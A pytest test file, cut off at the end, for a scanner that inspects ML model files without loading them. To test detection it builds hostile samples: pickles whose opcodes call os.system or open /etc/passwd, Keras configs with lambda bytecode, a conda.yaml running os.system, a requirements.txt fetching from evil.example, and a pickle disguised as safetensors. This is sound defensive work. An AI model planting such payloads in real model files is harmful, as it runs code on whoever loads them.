"""Model files inspected without loading them: hostile ones are told, sound ones are not, the rest is no pass."""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import os
import pickle
import random
import re
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import joblib
import numpy as np
import pytest

from gauntlet.assurance.scan.findings import Scanned
from gauntlet.assurance.scan.models import RULES, Limits, allowed, scan
from gauntlet.errors import ModelError
from gauntlet.state import PROJECT_ROOT


class Payload:
    """Unpickled, it would make a file: what no test may find."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.marker),)


def rules(result: Scanned) -> set[str]:
    return {finding.rule for finding in result.findings}


def archive(path: Path, **members: Any) -> Path:
    """A zip whose members are `name=content`, `__` standing for a dot; mappings are written as JSON."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, content in members.items():
            text = json.dumps(content) if isinstance(content, dict) else content
            opened.writestr(name.replace("__", "."), text)
    return path


def layer(**entry: Any) -> dict[str, Any]:
    """A sequential model with one layer, deep enough that only a walk finds it."""
    wrapped = {"class_name": "TimeDistributed", "module": "keras.layers", "config": {"name": "t", "layer": entry}}
    return {"class_name": "Sequential", "module": "keras", "config": {"name": "s", "layers": [wrapped]}}


def function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


OLD_LAMBDA = {"function": ["4wAA", None, None], "function_type": "lambda"}
BYTECODE = {"class_name": "__lambda__", "config": {"value": "4wAA", "defaults": None, "closure": None}}
GADGET = function("keras.config", "enable_unsafe_deserialization")
HOSTILE_CONFIGS: list[tuple[dict[str, Any], set[str]]] = [
    (layer(class_name="Lambda", module="keras.layers", config={"name": "l", "function": BYTECODE}), {"GM001", "GM002"}),
    (layer(class_name="Lambda", config=OLD_LAMBDA), {"GM001", "GM002"}),
    (layer(class_name="Lambda", module="keras.layers", config={"name": "l", "function": GADGET}), {"GM001", "GM005"}),
    (layer(class_name="Dense", module="keras.layers", config={"activation": BYTECODE}), {"GM002"}),
    (layer(class_name="system", module="os", config="id"), {"GM003"}),
    (layer(class_name="Popen", module="subprocess", config={"args": ["id"]}), {"GM003"}),
    (layer(class_name="Dense", module="keras.layers", config={"activation": function("builtins", "eval")}), {"GM003"}),
    (layer(class_name="Odd", module="somebody.layers", config={}), {"GM004"}),
    (layer(class_name="Odd", module=None, registered_name="theirs>Odd", config={}), {"GM004"}),
    (layer(class_name="theirs>Odd", config={}), {"GM004"}),
    ({"class_name": "Sequential", "compile_config": {"loss": function("builtins", "my_loss")}}, {"GM004"}),
    ({"class_name": "Sequential", "compile_config": {"loss": function("os", "system")}}, {"GM003"}),
    (layer(class_name="TFSMLayer", module="keras.layers", config={"filepath": "/tmp/x"}), {"GM006"}),
    (layer(class_name="StringLookup", module="keras.layers", config={"vocabulary": "/etc/passwd"}), {"GM006"}),
    (layer(class_name="Dense", module="keras.layers", config={"name": "../../etc/x"}), {"GM007"}),
]  # fmt: skip


@pytest.mark.parametrize(("config", "found"), HOSTILE_CONFIGS)
def test_a_hostile_configuration_is_told_in_both_formats(
    tmp_path: Path, config: dict[str, Any], found: set[str]
) -> None:
    result = scan(archive(tmp_path / "m.keras", config__json=config))
    assert (rules(result), bool(result.errors)) == (found, "GM004" in found)
    with h5py.File(tmp_path / "m.h5", "w") as opened:
        opened.attrs["model_config"] = json.dumps(config)
    result = scan(tmp_path / "m.h5")
    assert (rules(result), bool(result.errors)) == (found, "GM004" in found)


@pytest.mark.parametrize("name", ["m.keras", "m.h5"])
def test_a_sound_model_has_no_findings(tmp_path: Path, name: str) -> None:
    from gauntlet.quiet import load_tensorflow

    load_tensorflow()
    import keras

    layers = [keras.layers.Conv2D(2, 3, activation=keras.activations.gelu), keras.layers.BatchNormalization()]
    model = keras.Sequential([keras.Input((8, 8, 1)), *layers, keras.layers.Flatten(), keras.layers.Dense(3)])
    rate = keras.optimizers.schedules.ExponentialDecay(0.1, 10, 0.9)
    loss = keras.losses.sparse_categorical_crossentropy
    model.compile(optimizer=keras.optimizers.SGD(rate), loss=loss, metrics=["accuracy"])
    model.save(tmp_path / name)
    assert scan(tmp_path / name) == Scanned()


def test_every_allowed_name_is_one_of_keras_and_takes_no_callable() -> None:
    import inspect

    import keras
    from keras.src import layers, ops

    modules = (layers, keras.initializers, keras.regularizers, keras.constraints, keras.dtype_policies, keras.random)
    older = {"Policy", "TensorShape", "ThresholdedReLU"}
    known = {name for module in modules for name in vars(module)} | older
    operations = {
        name: kind
        for module in vars(ops).values()
        if inspect.ismodule(module)
        for name, kind in vars(module).items()
        if inspect.isclass(kind) and issubclass(kind, keras.Operation)
    }
    assert known >= allowed.LAYERS | allowed.PARTS
    assert set(operations) >= allowed.OPERATIONS
    assert all(hasattr(keras.activations, name) for name in allowed.FUNCTIONS)
    callables = {"f", "func", "function", "cond", "body", "true_fn", "false_fn", "body_fun", "cond_fun", "branches"}
    for name in allowed.OPERATIONS:
        taken = {*inspect.signature(operations[name]).parameters, *inspect.signature(operations[name].call).parameters}
        assert not taken & callables, name


@pytest.mark.parametrize("text", ["{", "[" * 100_000, "", "\xff"])
def test_a_configuration_that_cannot_be_read_does_not_pass(tmp_path: Path, text: str) -> None:
    result = scan(archive(tmp_path / "m.keras", config__json=text))
    assert "config.json" in result.errors[0]


@pytest.mark.parametrize("protocol", range(6))
def test_a_pickle_that_runs_code_is_told_and_not_run(tmp_path: Path, protocol: int) -> None:
    (tmp_path / "m.pkl").write_bytes(pickle.dumps([1, {"a": Payload(tmp_path / "ran")}], protocol))
    result = scan(tmp_path / "m.pkl")
    assert (rules(result), result.errors) == ({"GM010"}, ())
    assert "mkdir" in result.findings[0].message
    assert not (tmp_path / "ran").exists()


def save(how: Callable[..., None], path: Path, *arrays: np.ndarray) -> None:
    with path.open("wb") as opened:
        how(opened, *arrays)


WAYS: dict[str, Callable[[Any, Path], object]] = {
    "joblib": lambda value, path: joblib.dump(value, path),
    "joblib-zlib": lambda value, path: joblib.dump(value, path, compress=("zlib", 3)),
    "joblib-gzip": lambda value, path: joblib.dump(value, path, compress=("gzip", 3)),
    "joblib-xz": lambda value, path: joblib.dump(value, path, compress=("xz", 3)),
    "gzip": lambda value, path: path.write_bytes(gzip.compress(pickle.dumps(value))),
    "bz2": lambda value, path: path.write_bytes(bz2.compress(pickle.dumps(value))),
    "lzma": lambda value, path: path.write_bytes(lzma.compress(pickle.dumps(value), lzma.FORMAT_ALONE)),
    "npy": lambda value, path: save(np.save, path, np.array([value], dtype=object)),
    "npz": lambda value, path: save(np.savez, path, np.zeros(3), np.array([value], dtype=object)),
    "torch": lambda value, path: archive(path, **{"m/data__pkl": pickle.dumps(value), "m/data/0": b"\0" * 40}),
    "zip in zip": lambda value, path: archive(
        path, inner=archive(path.with_suffix(".in"), x=pickle.dumps(value)).read_bytes()
    ),
}


@pytest.mark.parametrize("way", WAYS)
def test_a_payload_is_found_behind_an_array_and_in_every_container(tmp_path: Path, way: str) -> None:
    record = np.zeros(3, dtype=[("a", "f8"), ("b", "i4")])
    value = [np.random.default_rng(0).random(2_000), record, np.array(["a", "bc"]), Payload(tmp_path / "ran")]
    WAYS[way](value, tmp_path / "m.bin")
    result = scan(tmp_path / "m.bin")
    assert "GM010" in rules(result)
    assert result.errors == ()
    WAYS[way](value[:3], tmp_path / "sound.bin")
    sound = scan(tmp_path / "sound.bin")
    assert rules(sound) == ({"GM013"} if way in ("npy", "npz") else set())
    assert sound.errors == ()


def test_a_payload_in_an_object_array_of_joblibs_is_found(tmp_path: Path) -> None:
    joblib.dump({"a": np.array([Payload(tmp_path / "ran"), 1], dtype=object)}, tmp_path / "m.joblib")
    assert rules(scan(tmp_path / "m.joblib")) == {"GM010"}


def test_opcodes_between_the_numbers_are_found(tmp_path: Path) -> None:
    # joblib.load goes past what lies before an array, pickle.load runs it.
    path, numbers = tmp_path / "m.pkl", np.arange(7, 207, dtype=np.uint8)
    joblib.dump([numbers], path)
    content = path.read_bytes()
    at = content.index(numbers.tobytes())
    padding = len(content[:at]) - len(content[:at].rstrip(b"\xff"))
    assert content[at - padding - 1] == padding
    code = b"cos\nsystem\n(S'id'\ntR.".ljust(1 + ord("c"))
    path.write_bytes(content[: at - padding - 1] + code + content[at:])
    assert joblib.load(path)[0].tolist() == numbers.tolist()
    assert scan(path).findings[0].message.endswith("os.system")


def sklearn_models() -> list[Any]:
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.svm import SVC

    x, y = np.random.default_rng(0).random((60, 5)), np.arange(60) % 3
    forest, boosted = RandomForestClassifier(3), HistGradientBoostingClassifier(max_iter=2)
    models = [forest, boosted, KNeighborsClassifier(algorithm="kd_tree"), SVC(), MLPClassifier(solver="lbfgs")]
    return [one.fit(x, y) for one in [*models, make_pipeline(StandardScaler(), LogisticRegression())]]


@pytest.mark.filterwarnings("ignore:lbfgs failed to converge")
def test_sound_models_of_scikit_learn_have_no_findings(tmp_path: Path) -> None:
    for number, fitted in enumerate(sklearn_models()):
        (tmp_path / f"{number}.pkl").write_bytes(pickle.dumps(fitted))
        joblib.dump(fitted, tmp_path / f"{number}.joblib")
    assert scan(tmp_path) == Scanned()


GLOBALS: list[tuple[bytes, set[str]]] = [
    (b"cos\nsystem\n.", {"GM010"}),
    (b"c__builtin__\neval\n.", {"GM010"}),
    (b"ccommands\ngetoutput\n.", {"GM010"}),
    (b"cnumpy.testing._private.utils\nrunstring\n.", {"GM010"}),
    (b"\x80\x04\x8c\x07sklearn\x8c\x0eutils.os.popen\x93.", {"GM010"}),
    (b"(S'id'\niposix\nsystem\n.", {"GM010"}),
    (b"csomebody\nModel\n.", {"GM011"}),
    (b"csklearn.utils\nresample\n.", {"GM011"}),
    (b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93.", {"GM010"}),
    (b"\x80\x04\x8c\x02os\x8c\x06system\x93.", {"GM010"}),
    (b"\x80\x04\x8c\x01a]\x93.", {"GM012"}),
    (b"\x80\x02\x82\x01.", {"GM012"}),
    (b"cbuiltins\nset\n.", set()),
]


@pytest.mark.parametrize(("code", "found"), GLOBALS)
def test_objects_are_judged_by_module_and_name(tmp_path: Path, code: bytes, found: set[str]) -> None:
    (tmp_path / "m.pkl").write_bytes(code)
    assert rules(scan(tmp_path / "m.pkl")) == found


@pytest.mark.parametrize(
    "code",
    [
        b"cos\nsystem\n(S'id'\ntR\xff",  # broken after the call, which has been made by then
        b"cos\nsystem\n(S'id'\ntR.more",
        pickle.dumps(Payload(Path("x")))[:-1],
    ],
)
def test_what_comes_before_a_break_is_told_and_the_break_too(tmp_path: Path, code: bytes) -> None:
    (tmp_path / "m.pkl").write_bytes(code)
    result = scan(tmp_path / "m.pkl")
    assert rules(result) == {"GM010"}
    assert len(result.errors) == 1


@pytest.mark.parametrize(
    "content", [b"", b"hello", b"\x08\x07onnx", b".", b"\x80", b"PK\x03\x04", b"\x89HDF\r\n\x1a\n"]
)
def test_what_is_no_model_file_never_passes_for_a_clean_one(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "m.keras").write_bytes(content)
    result = scan(tmp_path / "m.keras")
    assert result.findings == ()
    assert len(result.errors) == 1


def test_a_missing_file_and_an_empty_folder(tmp_path: Path) -> None:
    with pytest.raises(ModelError, match="no such model file or folder"):
        scan(tmp_path / "none")
    assert "not a model file" in scan(tmp_path).errors[0]


@pytest.mark.parametrize("name", ["../evil.txt", "/etc/evil", "a/../../b", "..\\evil", "C:\\evil"])
def test_names_that_lead_out_of_an_archive_are_told(tmp_path: Path, name: str) -> None:
    with zipfile.ZipFile(tmp_path / "m.keras", "w") as opened:
        opened.writestr("config.json", "{}")
        opened.writestr(name, pickle.dumps(1))
    assert rules(scan(tmp_path / "m.keras")) == {"GM007"}


def test_bombs_are_told_and_not_unpacked(tmp_path: Path) -> None:
    zeros = b"\0" * (40 << 20)
    result = scan(archive(tmp_path / "m.keras", config__json={}, more=zeros))
    assert rules(result) == {"GM008"}
    assert len(result.errors) == 1
    (tmp_path / "m.joblib").write_bytes(zlib.compress(zeros))
    result = scan(tmp_path / "m.joblib", Limits(member_bytes=1 << 20))
    assert (rules(result), len(result.errors)) == ({"GM008"}, 1)


def test_limits_end_a_look_and_say_so(tmp_path: Path) -> None:
    archive(tmp_path / "many.zip", **{f"m{n}": pickle.dumps(n) for n in range(5)})
    assert len(scan(tmp_path / "many.zip", Limits(files=3)).errors) == 1
    (tmp_path / "long.pkl").write_bytes(pickle.dumps(list(range(1_000))))
    assert "more than 500 opcodes" in scan(tmp_path / "long.pkl", Limits(opcodes=500)).errors[0]
    inner = pickle.dumps(1)
    for depth in range(6):
        inner = archive(tmp_path / f"{depth}.zip", x=inner).read_bytes()
    assert "archives within archives" in scan(tmp_path / "5.zip").errors[0]


def test_an_archive_that_is_a_pickle_too_is_both(tmp_path: Path) -> None:
    zipped = archive(tmp_path / "m.zip", config__json={}).read_bytes()
    (tmp_path / "m.keras").write_bytes(b"cos\nsystem\n(S'id'\ntR." + zipped)
    assert rules(scan(tmp_path / "m.keras")) >= {"GM010", "GM017"}


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_members_of_one_name_are_told(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "m.keras", "w") as opened:
        opened.writestr("config.json", "{}")
        opened.writestr("config.json", json.dumps(HOSTILE_CONFIGS[0][0]))
    assert rules(scan(tmp_path / "m.keras")) >= {"GM017", "GM001"}


def test_hdf5_data_in_other_files_is_told(tmp_path: Path) -> None:
    (tmp_path / "secret").write_bytes(b"12345678")
    with h5py.File(tmp_path / "w.h5", "w") as opened:
        opened["link"] = h5py.ExternalLink("/etc/other.h5", "/x")
        opened.create_dataset("a/b", (8,), "u1", external=[(str(tmp_path / "secret"), 0, 8)])
        layout = h5py.VirtualLayout((4,), "f4")
        layout[:] = h5py.VirtualSource("elsewhere.h5", "x", (4,))
        opened.create_virtual_dataset("v", layout)
        opened["again"] = opened["a"]
    result = scan(tmp_path / "w.h5")
    told = " ".join(finding.message for finding in result.findings)
    assert rules(result) == {"GM009"}
    assert all(name in told for name in ("/etc/other.h5", "secret", "elsewhere.h5"))
    inside = archive(tmp_path / "m.keras", config__json={}, model__weights__h5=(tmp_path / "w.h5").read_bytes())
    assert rules(scan(inside)) == {"GM009"}


FLAVORS: list[tuple[dict[str, Any], set[str]]] = [
    ({"sklearn": {"pickled_model": "model.pkl", "serialization_format": "pickle"}}, {"GM014"}),
    ({"sklearn": {"pickled_model": "model.pkl", "serialization_format": "skops"}}, set()),
    ({"python_function": {"loader_module": "mlflow.pyfunc.model", "python_model": "model.pkl"}}, {"GM014"}),
    ({"python_function": {"loader_module": "my.loader", "data": "model.pkl"}}, {"GM015"}),
    ({"python_function": {"loader_module": "mlflow.sklearn", "code": "code"}}, {"GM015"}),
    ({"python_function": {"loader_module": "mlflow.pyfunc.model", "model_code_path": "m.py"}}, {"GM015"}),
    ({"keras": {"data": "../../elsewhere"}}, {"GM007"}),
]


@pytest.mark.parametrize(("flavors", "found"), FLAVORS)
def test_flavors_that_run_code_are_told(tmp_path: Path, flavors: dict[str, Any], found: set[str]) -> None:
    (tmp_path / "MLmodel").write_text(json.dumps({"flavors": flavors}))
    (tmp_path / "conda.yaml").write_text("channels:\n- conda-forge\n")
    (tmp_path / "model.pkl").write_bytes(pickle.dumps({"a": 1}))
    result = scan(tmp_path)
    assert (rules(result), result.errors) == (found, ())


def test_a_folder_is_looked_into_file_by_file(tmp_path: Path) -> None:
    (tmp_path / "MLmodel").write_text(json.dumps({"flavors": {"odd": {"data": "data/notes.txt"}}}))
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "notes.txt").write_bytes(b"csomebody\nModel\n.")
    (tmp_path / "data" / "config.json").write_text(json.dumps(HOSTILE_CONFIGS[0][0]))
    (tmp_path / "code.py").write_text("x = 1\n")
    (tmp_path / "out.pkl").symlink_to("/etc/hostname")
    result = scan(tmp_path)
    assert {(f.rule, f.file) for f in result.findings} >= {
        ("GM011", "data/notes.txt"),
        ("GM001", "data/config.json"),
        ("GM007", "out.pkl"),
    }
    assert {error.split(":")[0] for error in result.errors} == {"MLmodel", "code.py", "data/notes.txt"}


SAVER = "__inference__traced_save_12"
"""How TensorFlow calls the function that saves variables."""


def saved_model(*ops: str, owner: str = "f", caller: str = "") -> bytes:
    """The bytes that TensorFlow would write for a graph of these operations, half of them within a function.

    Another function may call that one.
    """
    from gauntlet.quiet import load_tensorflow

    load_tensorflow()
    from tensorflow.core.protobuf import saved_model_pb2

    message = saved_model_pb2.SavedModel(saved_model_schema_version=1)
    graph = message.meta_graphs.add().graph_def
    within = graph.library.function.add()
    within.signature.name = owner
    if caller:
        other = graph.library.function.add()
        other.signature.name = caller
        node = other.node_def.add(name="call", op="StatefulPartitionedCall")
        node.attr["f"].func.name = owner
    for number, op in enumerate(ops):
        node = graph.node.add() if number % 2 else within.node_def.add()
        node.name, node.op = f"n{number}", op
    return bytes(message.SerializeToString())


def test_an_operation_behind_a_number_that_readers_cut_is_no_pass(tmp_path: Path) -> None:
    from tests.hostile import making

    whole = saved_model("MatMul", "WriteFile")
    hidden = making.varint((2 << 3 | 2) + (1 << 32)) + whole[whole.index(b"\x12") + 1 :]
    (tmp_path / "saved_model.pb").write_bytes(saved_model("MatMul") + hidden)
    assert "not a SavedModel that can be read: field" in scan(tmp_path).errors[0]


def test_operations_of_a_saved_model_are_read_without_tensorflow(tmp_path: Path) -> None:
    (tmp_path / "variables").mkdir()
    (tmp_path / "variables" / "variables.index").write_bytes(bytes(40) + bytes.fromhex("57fb808b247547db"))
    (tmp_path / "saved_model.pb").write_bytes(saved_model("ReadFile", "MatMul", "Relu", "WriteFile"))
    result = scan(tmp_path)
    assert [finding.message.split(": ")[1] for finding in result.findings] == ["ReadFile", "WriteFile"]
    (tmp_path / "saved_model.pb").write_bytes(saved_model("MatMul", "RestoreV2", "SaveV2"))
    assert {finding.message.split(": ")[1] for finding in scan(tmp_path).findings} == {"RestoreV2", "SaveV2"}
    (tmp_path / "saved_model.pb").write_bytes(saved_model("RestoreV2", "MatMul", "SaveV2", owner=SAVER))
    assert scan(tmp_path) == Scanned()
    (tmp_path / "saved_model.pb").write_bytes(saved_model("SaveV2", "MatMul", owner=SAVER, caller="evil"))
    assert rules(scan(tmp_path)) == {"GM016"}
    (tmp_path / "saved_model.pb").write_bytes(b"\xff\xff\xff")
    assert len(scan(tmp_path).errors) == 1


def seeds(folder: Path) -> list[bytes]:
    """A sound or hostile file of every kind, to be broken."""
    with h5py.File(folder / "s.h5", "w") as opened:
        opened.attrs["model_config"] = json.dumps(HOSTILE_CONFIGS[0][0])
        opened["a/b"], opened["soft"] = np.zeros(9), h5py.SoftLink("/a")
    weights = (folder / "s.h5").read_bytes()
    archive(folder / "s.keras", config__json=HOSTILE_CONFIGS[1][0], schema__json={"a": 1}, w__h5=weights)
    value = [np.arange(50), {"a": (1, 2.5, "x", b"y")}, np.array([1, None], dtype=object)]
    for way in ("joblib", "joblib-zlib", "npy", "npz", "gzip"):
        WAYS[way](value, folder / f"s.{way}")
    pickled = [pickle.dumps(value, protocol) for protocol in range(6)]
    return pickled + [path.read_bytes() for path in sorted(folder.iterdir())]


def broken(content: bytes, draw: random.Random) -> bytes:
    """The content with a few bytes changed, put in, taken out or cut off."""
    found = bytearray(content)
    for _ in range(draw.choice((1, 2, 5, 20))):
        at, how = draw.randrange(len(found)), draw.random()
        if how < 0.6:
            found[at] = draw.randrange(256)
        elif how < 0.8:
            found[at:at] = draw.randbytes(draw.randrange(1, 9))
        elif how < 0.95 or at == 0:
            del found[at + 1 : at + draw.randrange(2, 20)]
        else:
            del found[at:]
    return bytes(found)


def test_broken_files_end_a_look_without_an_exception(tmp_path: Path) -> None:
    draw, ended = random.Random(0), 0
    kinds = seeds(tmp_path)
    for number in range(600):
        path = tmp_path / ("f.keras", "MLmodel", "saved_model.pb", "f.json")[number % 4]
        path.write_bytes(broken(draw.choice(kinds), draw))
        ended += bool(scan(path).errors)
        path.unlink()
    assert ended > 300


@pytest.mark.parametrize("code", [b"\x8e", b"\x8d", b"\x96"])
def test_a_length_is_believed_only_as_far_as_the_file_goes(tmp_path: Path, code: bytes) -> None:
    (tmp_path / "m.pkl").write_bytes(b"\x80\x05" + code + (1 << 62).to_bytes(8, "little") + b"x")
    assert "not a whole pickle" in scan(tmp_path / "m.pkl").errors[0]


def test_a_look_brings_none_of_the_libraries_that_load_models(tmp_path: Path) -> None:
    archive(tmp_path / "m.keras", config__json=HOSTILE_CONFIGS[0][0])
    (tmp_path / "m.pkl").write_bytes(pickle.dumps(Payload(tmp_path / "ran")))
    joblib.dump([np.zeros(3)], tmp_path / "m.joblib")
    code = (
        "import sys; from pathlib import Path; from gauntlet.assurance.scan.models import scan\n"
        f"assert len(scan(Path({str(tmp_path)!r})).findings) == 3\n"
        "print({'keras', 'tensorflow', 'joblib', 'sklearn', 'torch', 'mlflow'} & set(sys.modules))"
    )
    done = subprocess.run([sys.executable, "-c", code], cwd=PROJECT_ROOT, capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "set()"


def test_a_strangers_text_is_safe_to_show(tmp_path: Path) -> None:
    name = "\x1b[2J\u202e" + "x" * 5_000
    found = scan(archive(tmp_path / "m.keras", config__json=layer(class_name="Odd", module=name, config={}))).findings
    assert found[0].message.isprintable()
    assert len(found[0].message) < 500


def test_fingerprints_tell_files_and_contents_apart(tmp_path: Path) -> None:
    def marks(name: str, code: bytes) -> list[str]:
        (tmp_path / name).write_bytes(code)
        return [finding.fingerprint for finding in scan(tmp_path / name).findings]

    first = marks("a.pkl", b"cos\nsystem\n.")
    assert marks("a.pkl", b"I1\n0cos\nsystem\n.") == first
    assert marks("b.pkl", b"cos\nsystem\n.") != first
    assert marks("a.pkl", b"cos\npopen\n.") != first


def test_the_rules_of_the_page_are_those_declared() -> None:
    page = (PROJECT_ROOT / "docs" / "scanning.md").read_text()
    rows = re.findall(r"^\| (GM\d+) \| `(.+?)` \| (\w+) \| (.+?) \| (.+?) \|$", page, flags=re.MULTILINE)
    assert rows == [(r.id, r.name, r.severity, r.message, r.source) for r in RULES.values()]


WRAPPED = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
LIST = b"(" + WRAPPED + b"cbuiltins\nobject\nNl"
MADE, SHAPE = WRAPPED + b")\x81", b"(S'shape'\n(I1\nt"
DTYPED = b"S'dtype'\ncnumpy\ndtype\n(S'u1'\nI0\nI1\ntR(I3\nS'|'\nNNNI-1\nI-1\nI0\ntb"
HIDDEN = b"U\x10..cos\nsystem\n)R.."
"""To one reader a text, to one that is two bytes further an import."""
SNEAKY: dict[str, bytes] = {
    "a wrapper made by copyreg of a list that becomes its arguments": b"\x80\x02ccopyreg\n_reconstructor\n"
    + b"cbuiltins\ntuple\n("
    + LIST
    + b"tRR}"
    + SHAPE
    + DTYPED
    + b"ub"
    + HIDDEN,
    "attributes of the wrapper's class": b"\x80\x02"
    + WRAPPED
    + b"(N}S'numpy_array_alignment_bytes'\nI16\nstb0"
    + MADE
    + b"}"
    + SHAPE
    + DTYPED
    + b"ub"
    + HIDDEN,
    "attributes of a class": b"\x80\x02csklearn.svm._classes\nSVC\n(N}S'fit'\ncbuiltins\nlist\nstb.",
    "a wrapper that is described twice": b"\x80\x02"
    + MADE
    + b"q\x05}S'numpy_array_alignment_bytes'\nI16\ns"
    + SHAPE
    + DTYPED
    + b"ub\x00x0h\x05}"
    + SHAPE
    + DTYPED
    + b"ub"
    + HIDDEN,
    "a wrapper whose alignment is computed": b"\x80\x02"
    + MADE
    + b"}"
    + SHAPE
    + DTYPED
    + b"S'numpy_array_alignment_bytes'\ncbuiltins\nint\n(tRub"
    + HIDDEN,
    "a wrapper one of whose keys is computed": b"\x80\x02"
    + MADE
    + b"}"
    + SHAPE
    + DTYPED
    + b"ucbuiltins\nstr\n(S'shape'\ntR(I0\ntsb"
    + HIDDEN,
    "a wrapper made by copyreg": b"ccopyreg\n_reconstructor\n(" + WRAPPED + b"cbuiltins\nobject\nNtR}b.",
    "a wrapper that is called": WRAPPED + b")R}b.",
    "a name computed at run time": b"\x80\x04cbuiltins\nstr\n\x8c\x02os\x85R\x8c\x06system\x93.",
    "a command runner": b"c_osx_support\n_read_output\n(Vid\ntR.",
    "another": b"cuuid\n_get_command_stdout\n(Vid\ntR.",
    "a file opener": b"c_pyio\nopen\n(V/etc/passwd\ntR.",
    "a reader of pickles": b"cpandas\nread_pickle\n(V/tmp/x\ntR.",
    "a re-export of scikit-learn's": b"csklearn.utils.fixes\nPath\n(V/tmp\ntR.",
    "a class of nobody's": b"csomebody.module\nModel\n)R.",
}


@pytest.mark.parametrize("content", SNEAKY.values(), ids=SNEAKY)
def test_what_is_not_on_the_allow_list_is_never_clean(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "m.pkl").write_bytes(content)
    result = scan(tmp_path / "m.pkl")
    severe = [finding for finding in result.findings if finding.severity == "high"]
    assert severe or result.errors, "would pass a gate of --fail-on high"


def test_models_of_scikit_learn_are_clean(tmp_path: Path) -> None:
    import joblib
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.svm import SVC

    x, y = np.random.default_rng(0).normal(size=(40, 5)), np.arange(40) % 2
    for model in (RandomForestClassifier(3), make_pipeline(StandardScaler(), LogisticRegression()), SVC()):
        model.fit(x, y)
        joblib.dump(model, tmp_path / "m.joblib")
        (tmp_path / "m.pkl").write_bytes(pickle.dumps(model))
        assert scan(tmp_path / "m.joblib") == scan(tmp_path / "m.pkl") == Scanned()


def test_every_allowed_class_of_scikit_learn_is_defined_where_it_is_named() -> None:
    import importlib
    import warnings

    from gauntlet.assurance.scan.models.objects import _sklearn

    for module, names in _sklearn().items():
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            found = importlib.import_module(module)
        assert {name for name in names if not name.startswith("__")} <= {
            name for name, thing in vars(found).items() if getattr(thing, "__module__", "") == module
        }


INERT = {
    "conda.yaml": (b"x: !!python/object/apply:os.system [id]\n", "GM003"),
    "requirements.txt": (b"--index-url http://evil.example/simple\nnumpy\n", "GM015"),
    "below/MLmodel": (b'{"flavors": {"keras": {"keras_module": "evil"}}}', "GM015"),
}


@pytest.mark.parametrize(("name", "content", "rule"), [(n, *facts) for n, facts in INERT.items()], ids=INERT)
def test_texts_that_run_or_fetch_code_are_told(name: str, content: bytes, rule: str, tmp_path: Path) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_bytes(content)
    assert rule in {finding.rule for finding in scan(tmp_path).findings}


def test_an_operation_that_is_not_known_is_never_clean(tmp_path: Path) -> None:
    (tmp_path / "saved_model.pb").write_bytes(saved_model("MatMul", "SomebodysOwnOp"))
    result = scan(tmp_path)
    assert rules(result) == {"GM018"}
    assert "SomebodysOwnOp: what it does is not known" in result.errors[0]


def in_safetensors(code: bytes) -> bytes:
    """A file that is whole safetensors, and a pickle: the length of the header is an opcode to a reader of pickles.

    That opcode takes a text, the header's first bytes; more such texts fill the header, and the code is the tensor.
    """
    start = b'{"__metadata__":{"a":"'
    entry = {"dtype": "U8", "shape": [len(code)], "data_offsets": [0, len(code)]}
    end = b'"},"t":' + json.dumps(entry).encode() + b"}"
    front = b"X" + (3 + len(start)).to_bytes(4, "little") + bytes(3)
    left = int.from_bytes(front, "little") - len(start) - len(end)
    texts = (n for n in range(93, 127))  # how long: the number is a plain character, too
    n, pad = next((n, pad) for n in texts for pad in range(127 - len(end)) if (left - pad - 2) % (n + 3) == 0)
    filled = (b"U" + bytes([n]) + b" " * n + b"0") * ((left - pad - 2) // (n + 3))
    return front + start + filled + b"U" + bytes([pad + len(end)]) + b" " * pad + end + code


IMPORTS = b"cos\nsystem\n."
AS_OTHERS: dict[str, bytes] = {
    "TensorFlow Lite": b"\x80\x04\x8c\x04TFL3" + IMPORTS,
    "TensorFlow Lite, of nobody's": b"\x80\x04\x8c\x04TFL3csomebody\nrun\n.",
    "safetensors": in_safetensors(IMPORTS),
}


@pytest.mark.parametrize("content", AS_OTHERS.values(), ids=AS_OTHERS)
def test_a_pickle_that_is_a_file_of_another_format_too_is_told(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "m.pkl").write_bytes(content)
    result = scan(tmp_path / "m.pkl")
    assert rules(result) & {"GM010", "GM011"}, result


def test_what_an_array_spells_is_told_when_it_is_a_name_on_no_list(tmp_path: Path) -> None:
    path, numbers = tmp_path / "m.pkl", np.frombuffer(b"csomebody\nrun\n)R.".ljust(200, b"\xff"), np.uint8)
    joblib.dump([numbers], path)
    content = path.read_bytes()
    at = content.index(numbers.tobytes())
    padding = len(content[:at]) - len(content[:at].rstrip(b"\xff"))
    path.write_bytes(content[: at - padding - 1] + b"csomebody\nrun\n)R.".ljust(100) + content[at:])
    assert "GM011" in rules(scan(path))


ARCHIVES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "a comment": (lambda data: data[:-2] + b"\x01\x00x", "behind the archive"),
    "another directory": (lambda data: data[:-6] + (9).to_bytes(4, "little") + data[-2:], "directory is not where"),
}


@pytest.mark.parametrize(("change", "told"), ARCHIVES.values(), ids=ARCHIVES)
def test_an_archive_that_readers_read_differently_is_told(
    change: Callable[[bytes], bytes], told: str, tmp_path: Path
) -> None:
